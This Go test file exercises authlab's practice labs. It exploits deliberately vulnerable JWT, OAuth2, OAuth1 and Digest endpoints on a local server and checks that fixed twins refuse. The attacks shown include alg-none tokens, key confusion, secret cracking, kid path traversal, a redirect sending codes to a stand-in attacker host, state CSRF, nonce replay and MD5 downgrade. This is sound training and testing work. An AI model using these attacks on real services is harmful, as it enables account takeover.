package cli_test

import (
	"bytes"
	"encoding/json"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/authlab/authlab/practice"
)

// labEvents records the lab verdicts of a practice server.
type labEvents struct {
	mu        sync.Mutex
	exploited map[string]int
	refused   map[string]int
}

func (l *labEvents) observe(e practice.Event) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if name, ok := practice.LabExploited(e); ok {
		l.exploited[name]++
	}
	if strings.Contains(e.Mistake, "(fixed): refused") {
		l.refused[e.Path]++
	}
}

func (l *labEvents) counts(lab, fixedPath string) (int, int) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.exploited[lab], l.refused[fixedPath]
}

// Each attack lab exploited with the real authlab command, exactly as the
// lab index and the README say (files written by one command and read by
// the next through file: references), then the same commands against the
// fixed twin: refused with the right error, and the server records no
// exploit there.
func TestLabsWithTheAuthlabCommand(t *testing.T) {
	ev := &labEvents{exploited: map[string]int{}, refused: map[string]int{}}
	ts := httptest.NewServer(practice.New(practice.Options{Labs: true, Observe: ev.observe}).Handler())
	defer ts.Close()
	base := ts.URL
	dir := t.TempDir()
	file := func(name string) string { return filepath.Join(dir, name) }
	// fetch writes the body of GET path to name, as `authlab send URL > name`.
	fetch := func(t *testing.T, path, name string) string {
		r := authlab(t, nil, "send", base+path)
		if r.code != 0 {
			t.Fatalf("send %s: exit %d: %s", path, r.code, r.stderr)
		}
		if err := os.WriteFile(file(name), []byte(r.stdout), 0o600); err != nil {
			t.Fatal(err)
		}
		return r.stdout
	}
	token := func(t *testing.T, path string) string {
		var b struct{ Token string }
		if err := json.Unmarshal([]byte(fetch(t, path, "token.json")), &b); err != nil || b.Token == "" {
			t.Fatalf("token from %s: %v", path, err)
		}
		return b.Token
	}
	admin := `claims={"sub":"student","role":"admin"}`
	oauth1 := func(nonce string) []string {
		return []string{"-a", "oauth1", "-c", "consumer_key=" + practice.DemoConsumerKey, "-c", "consumer_secret=" + practice.DemoConsumerSecret,
			"-c", "token=" + practice.DemoAccessToken, "-c", "token_secret=" + practice.DemoTokenSecret,
			"-c", "nonce=" + nonce, "-c", "timestamp=" + strconv.FormatInt(time.Now().Unix(), 10)}
	}
	tests := []struct {
		lab, vuln, fixed string
		// run performs the exploit on target and returns the last command's run
		run        func(t *testing.T, target string, fixed bool) run
		vulnCode   int
		vulnOut    string // on stdout or stderr of the exploit
		fixedCode  int
		fixedOut   string
		fixedCount bool // the fixed twin records a refusal
	}{
		{"jwt-none", "/labs/jwt-none", "/labs/jwt-none/fixed", func(t *testing.T, target string, _ bool) run {
			return authlab(t, nil, "send", "--trace", "-a", "jwt", "-c", "attack=alg-none", "-c", admin, base+target)
		}, 0, "ATTACK (practice lab): alg-none", 4, "The token is unsigned (alg none)", true},
		{"jwt-confusion", "/labs/jwt-confusion", "/labs/jwt-confusion/fixed", func(t *testing.T, target string, _ bool) run {
			fetch(t, "/labs/jwt-confusion/public.pem", "public.pem")
			return authlab(t, nil, "send", "-a", "jwt", "-c", "attack=key-confusion", "-c", "alg=HS256", "-c", "secret=file:"+file("public.pem"), "-c", admin, base+target)
		}, 0, `"admin": true`, 4, "The token alg HS256 is not accepted here", true},
		{"jwt-weak", "/labs/jwt-weak", "/labs/jwt-weak/fixed", func(t *testing.T, target string, fixed bool) run {
			tokPath := "/labs/jwt-weak/token"
			if fixed {
				tokPath = "/labs/jwt-weak/fixed/token"
			}
			tok := token(t, tokPath)
			fetch(t, "/labs/jwt-weak/wordlist.txt", "words.txt")
			os.Remove(file("secret.txt"))
			c := authlab(t, nil, "jwt", "crack", tok, "--wordlist", file("words.txt"), "--out", file("secret.txt"))
			if fixed {
				if c.code != 1 || !strings.Contains(c.stderr, "not found: none of the") {
					t.Fatalf("crack of the fixed twin's token: exit %d %q %q", c.code, c.stdout, c.stderr)
				}
				return authlab(t, nil, "send", "-a", "jwt", "-c", "secret="+practice.LabWeakJWTSecret, "-c", admin, base+target)
			}
			if c.code != 0 || !strings.Contains(c.stdout, "found the HS256 secret: ") || strings.Contains(c.stdout, practice.LabWeakJWTSecret) {
				t.Fatalf("crack: exit %d %q %q; want found, masked", c.code, c.stdout, c.stderr)
			}
			if b, err := os.ReadFile(file("secret.txt")); err != nil || string(b) != practice.LabWeakJWTSecret {
				t.Fatalf("--out wrote %q, %v", b, err)
			}
			if fi, err := os.Stat(file("secret.txt")); err != nil || fi.Mode().Perm() != 0o600 {
				t.Fatalf("--out file mode = %v, %v; want 0600", fi.Mode(), err)
			}
			return authlab(t, nil, "send", "-a", "jwt", "-c", "secret=file:"+file("secret.txt"), "-c", admin, base+target)
		}, 0, `"admin": true`, 4, "The token signature is invalid", true},
		{"jwt-kid", "/labs/jwt-kid", "/labs/jwt-kid/fixed", func(t *testing.T, target string, _ bool) run {
			fetch(t, "/labs/jwt-kid/public/banner.txt", "banner.txt")
			return authlab(t, nil, "send", "-a", "jwt", "-c", "kid=../public/banner.txt", "-c", "secret=file:"+file("banner.txt"), "-c", admin, base+target)
		}, 0, `"admin": true`, 4, "Unknown kid", true},
		{"oauth2-redirect", "/labs/oauth2-redirect/authorize", "/labs/oauth2-redirect/fixed/authorize", func(t *testing.T, target string, _ bool) run {
			return authlab(t, nil, "send", "-v", base+target+"?response_type=code&client_id="+practice.LabOAuth2ClientID+"&redirect_uri=https://client.example.attacker.test/steal&state=xyz")
		}, 3, "https://client.example.attacker.test/steal?code=", 4, "redirect_uri does not match the registered redirect URI", true},
		{"oauth2-state", "/labs/oauth2-state/callback", "/labs/oauth2-state/fixed/callback", func(t *testing.T, target string, _ bool) run {
			q := url.Values{"response_type": {"code"}, "client_id": {practice.LabOAuth2ClientID}, "redirect_uri": {base + target}, "login_hint": {"attacker"}}
			a := authlab(t, nil, "send", "-v", base+"/labs/oauth2-state/authorize?"+q.Encode())
			m := regexp.MustCompile(`code=([A-Za-z0-9_.-]+)`).FindStringSubmatch(a.stdout + a.stderr)
			if a.code != 3 || m == nil {
				t.Fatalf("authorize: exit %d, no code in %q", a.code, a.stderr)
			}
			return authlab(t, nil, "send", base+target+"?code="+m[1])
		}, 0, `"signed_in_as": "attacker"`, 4, "state is missing", true},
		{"oauth1-nonce", "/labs/oauth1-nonce", "/labs/oauth1-nonce/fixed", func(t *testing.T, target string, fixed bool) run {
			args := append([]string{"send"}, oauth1("replay-"+strconv.FormatBool(fixed))...)
			args = append(args, base+target)
			if first := authlab(t, nil, args...); first.code != 0 {
				t.Fatalf("first send: exit %d %s", first.code, first.stderr)
			}
			return authlab(t, nil, args...)
		}, 0, `"screen_name": "demo"`, 4, `"code": 32`, true},
		{"digest-downgrade", "/labs/digest-downgrade", "/labs/digest-downgrade/fixed", func(t *testing.T, target string, _ bool) run {
			return authlab(t, nil, "send", "-a", "digest", "-c", "username="+practice.DemoUser, "-c", "password="+practice.DemoPassword, "-c", "algorithm=MD5", base+target)
		}, 0, `"algorithm": "MD5"`, 1, "the server offers Digest with SHA-256, not MD5", false},
	}
	for _, tc := range tests {
		t.Run(tc.lab, func(t *testing.T) {
			r := tc.run(t, tc.vuln, false)
			if r.code != tc.vulnCode || !strings.Contains(r.stdout+r.stderr, tc.vulnOut) {
				t.Fatalf("exploit of %s: exit %d; want %d and %q\nstdout: %s\nstderr: %s", tc.vuln, r.code, tc.vulnCode, tc.vulnOut, r.stdout, r.stderr)
			}
			if n, _ := ev.counts(tc.lab, tc.fixed); n != 1 {
				t.Fatalf("the server recorded %d exploits of %s; want 1", n, tc.lab)
			}
			r = tc.run(t, tc.fixed, true)
			if r.code != tc.fixedCode || !strings.Contains(r.stdout+r.stderr, tc.fixedOut) {
				t.Fatalf("exploit of %s: exit %d; want %d and %q\nstdout: %s\nstderr: %s", tc.fixed, r.code, tc.fixedCode, tc.fixedOut, r.stdout, r.stderr)
			}
			n, refused := ev.counts(tc.lab, tc.fixed)
			if n != 1 {
				t.Errorf("after the fixed twin, %d exploits of %s recorded; want still 1", n, tc.lab)
			}
			if tc.fixedCount && refused == 0 {
				t.Errorf("the fixed twin %s recorded no refusal", tc.fixed)
			}
		})
	}
}

// authlab serve --labs: the banner says the labs are on and deliberately
// vulnerable and lists them, GET /labs answers, the console shows an
// exploit; on an address other machines reach it warns and still serves.
// Without --labs the labs are 404.
func TestServeLabs(t *testing.T) {
	tests := []struct {
		name string
		args []string
		labs bool
		warn bool
	}{
		{"loopback", []string{"--labs", "--addr", "127.0.0.1:0"}, true, false},
		{"all addresses", []string{"--labs", "--addr", "0.0.0.0:0"}, true, true},
		{"no --labs", []string{"--addr", "127.0.0.1:0"}, false, false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			cmd := exec.Command(binary, append([]string{"serve"}, tc.args...)...)
			cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir()}
			var out, errb syncBuffer
			cmd.Stdout, cmd.Stderr = &out, &errb
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			defer func() { cmd.Process.Kill(); cmd.Wait() }()
			port := regexp.MustCompile(`on http://\S+:(\d+) `)
			var base string
			for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
				if m := port.FindStringSubmatch(out.String()); m != nil && strings.Contains(out.String(), "OAuth 1.0a: consumer") {
					base = "http://127.0.0.1:" + m[1]
					break
				}
			}
			if base == "" {
				t.Fatalf("no banner: %q %q", out.String(), errb.String())
			}
			banner := out.String()
			if got := strings.Contains(banner, "attack labs ON: the endpoints below are DELIBERATELY VULNERABLE"); got != tc.labs {
				t.Errorf("banner says labs on = %v; want %v:\n%s", got, tc.labs, banner)
			}
			if tc.labs {
				for _, l := range practice.Labs() {
					if !strings.Contains(banner, l.Vulnerable) || !strings.Contains(banner, l.Fixed) {
						t.Errorf("banner lacks lab %s (%s, %s)", l.Name, l.Vulnerable, l.Fixed)
					}
				}
			}
			if got := strings.Contains(errb.String(), "the attack labs are vulnerable on purpose"); got != tc.warn {
				t.Errorf("LAN warning = %v; want %v (stderr %q)", got, tc.warn, errb.String())
			}
			r := authlab(t, nil, "send", base+"/labs")
			if want := map[bool]int{true: 0, false: 4}[tc.labs]; r.code != want {
				t.Fatalf("GET /labs: exit %d; want %d (%s)", r.code, want, r.stderr)
			}
			if !tc.labs {
				return
			}
			r = authlab(t, nil, "send", "-a", "jwt", "-c", "attack=alg-none", "-c", `claims={"role":"admin"}`, base+"/labs/jwt-none")
			if r.code != 0 {
				t.Fatalf("jwt-none exploit: exit %d %s", r.code, r.stderr)
			}
			for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline) && !strings.Contains(out.String(), "mistake: lab jwt-none: exploited"); {
				time.Sleep(20 * time.Millisecond)
			}
			if !strings.Contains(out.String(), "mistake: lab jwt-none: exploited") {
				t.Errorf("the console does not show the exploit:\n%s", out.String())
			}
		})
	}
}

// syncBuffer is a bytes.Buffer a child process writes while the test reads.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}
